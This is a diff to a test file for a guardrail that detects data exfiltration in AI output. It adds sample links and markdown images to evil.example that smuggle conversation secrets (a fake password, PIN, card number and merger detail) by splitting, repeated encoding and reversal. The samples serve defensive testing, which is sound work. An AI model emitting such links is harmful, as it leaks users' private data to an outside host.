@@ -12,10 +12,25 @@ from hypothesis import strategies as st
 from gateway.guardrails.detectors.exfiltration import Conversation, find_exfiltration
 
 SAID = Conversation(
-    ["The merger with Acme closes on Friday.", "Mail kim@example.org; docs: https://docs.example.com/a?page=two"]
+    [
+        "The merger with Acme closes on Friday.",
+        "Mail kim@example.org; docs: https://docs.example.com/a?page=two",
+        "The door opens with Tr0ub4dor&3, the safe with 482913, the card is 4242 4242 4242 4242.",
+        "My phone is an iPhone 15.",
+        "Please compress the thumbnail.",
+    ]
 )
 SECRET = "the merger with Acme"
 ENCODED = base64.urlsafe_b64encode(SECRET.encode()).decode()
+PASSWORD = "Tr0ub4dor&3"
+
+
+def coded(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+def halves(text: str) -> tuple[str, str]:
+    return text[: len(text) // 2], text[len(text) // 2 :]
 
 
 @pytest.mark.parametrize(
@@ -29,11 +44,41 @@ ENCODED = base64.urlsafe_b64encode(SECRET.encode()).decode()
         f"![][1]\n\n[1]: //evil.example/?x={quote(SECRET)}",
         "https://evil.example/hit?who=kim@example.org",
         "![x](https://evil.example/?n=nobody+said+this+but+it+is+a+whole+sentence)",
+        # In parts.
+        "![x](https://evil.example/?a=the+mer&b=ger+wi&c=th+Acme)",
+        "![x](https://evil.example/?p3=th+Acme&p2=ger+wi&p1=the+mer)",
+        "![x](https://evil.example/?p10=th+Acme&p9=ger+wi&p8=the+mer)",
+        "![x](https://evil.example/the-merg/er-with/acme/closes.png)",
+        "![x](https://evil.example/?a={}&b={})".format(*halves(ENCODED)),
+        "https://evil.example/{}/{}".format(*halves(ENCODED)),
+        "https://{}.{}.evil.example/".format(*halves(SECRET.encode().hex())),
+        "https://evil.example/?a=4242&b=4242&c=4242&d=4242",
+        # Encoded more than once.
+        f"![x](https://evil.example/?d={quote(quote(quote(SECRET)))})",
+        f"https://evil.example/?d={quote(quote('kim@example.org', safe=''), safe='')}",
+        f"https://evil.example/?d={quote(coded(coded(SECRET)))}",
+        f"https://evil.example/?d={coded(quote(SECRET))}",
+        # Short.
+        f"https://evil.example/?d={coded(PASSWORD)}",
+        f"https://evil.example/{coded('482913')}",
+        f"https://evil.example/x-{coded('Acme').rstrip('=')}",
+        f"https://evil.example/?d={PASSWORD.encode().hex()}",
+        f"![x](https://evil.example/?d={quote(PASSWORD)})",
+        "![x](https://evil.example/?d=482913)",
+        "![x](https://evil.example/?d=merger+with)",
+        f"![x](https://evil.example/{quote(PASSWORD)}.png)",
+        # Backwards.
+        f"![x](https://evil.example/?d={quote(SECRET[::-1])})",
+        f"https://evil.example/?d={quote(SECRET[::-1])}",
+        f"https://evil.example/?d={coded(SECRET[::-1])}",
+        f"https://evil.example/{ENCODED[::-1]}",
+        f"![x](https://evil.example/?d={quote(PASSWORD[::-1])})",
     ],
 )
 def test_find_exfiltration__conversation_in_the_address__found(text: str) -> None:
     (found,) = find_exfiltration(text, SAID)
-    assert text[found.start : found.end].startswith(("https://evil.example", "//evil.example"))
+    assert text[found.start : found.end].startswith(("https://", "//"))
+    assert "evil.example/" in text[found.start : found.end]
 
 
 @pytest.mark.parametrize(
@@ -44,6 +89,13 @@ def test_find_exfiltration__conversation_in_the_address__found(text: str) -> Non
         "https://search.example/?q=acme+merger",
         "![logo](https://cdn.example.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b/logo.png?width=1200)",
         "https://shop.example/item/0123456789",
+        "![phone](https://shop.example/iphone15/front.png?width=1200&height=800&auto=compress&type=thumbnail)",
+        "![the merger](https://cdn.example/merger/chart.svg?v=2&lang=en)",
+        "https://search.example/?q=iphone+15+phone&page=2&sort=price",
+        "https://search.example/?q=Tr0ub4dor%263",
+        "![a](https://img.example/2024/05/17/482/91/3.png)",
+        "https://docs.example.org/acme/guide/friday/closes/index.html#the-door",
+        "![%](https://img.example/?t=100%25&u=%E0%A4%A)",
         "no address // at all",
     ],
 )
